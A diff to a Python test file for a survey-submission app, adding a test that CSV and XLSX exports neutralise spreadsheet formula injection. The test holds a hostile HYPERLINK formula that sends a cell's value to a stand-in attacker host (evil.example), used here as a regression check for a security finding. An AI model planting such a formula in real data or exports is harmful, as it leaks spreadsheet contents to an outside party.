@@ -108,6 +108,20 @@ def test_exports_csv_xlsx_geojson(client, stored, make_user):
         ("csv", 2, True), ("xlsx", 2, True), ("geojson", 2, True)]
 
 
+def test_exports_never_hold_a_formula(client, form, post, make_user):
+    """Issue 14, finding 9: an answer typed on a phone stays text in CSV and XLSX."""
+    head = '=HYPERLINK("http://evil.example/?"&B2,"Li")'
+    xml = household_instance("uuid:f1", head=head.replace("&", "&amp;"))
+    assert post(xml).status_code == 201
+    _as(client, make_user("supervisor", areas=["T01"]))
+    (row,) = csv.DictReader(io.StringIO(
+        client.get("/submissions/export.csv").data.decode("utf-8-sig")))
+    assert row["head"] == "'" + head
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/submissions/export.xlsx").data))
+    (cell,) = [c for r in book["submissions"].iter_rows() for c in r if c.value == head]
+    assert cell.data_type == "s"
+
+
 def test_export_masked_for_admin(client, stored, make_user):
     _as(client, make_user("admin"))
     rows = list(csv.DictReader(io.StringIO(
